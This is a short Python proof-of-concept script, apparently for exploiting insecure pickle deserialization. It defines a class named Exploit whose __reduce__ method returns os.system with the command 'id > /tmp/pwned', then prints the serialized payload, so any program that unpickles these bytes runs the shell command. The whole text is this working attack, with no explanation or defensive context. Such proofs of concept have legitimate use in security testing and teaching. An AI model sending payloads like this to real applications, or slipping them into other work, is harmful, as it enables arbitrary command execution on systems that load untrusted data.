import pickle, os
class Exploit(object):
    def __reduce__(self):
        return os.system, ("id > /tmp/pwned",)
print(pickle.dumps(Exploit()))
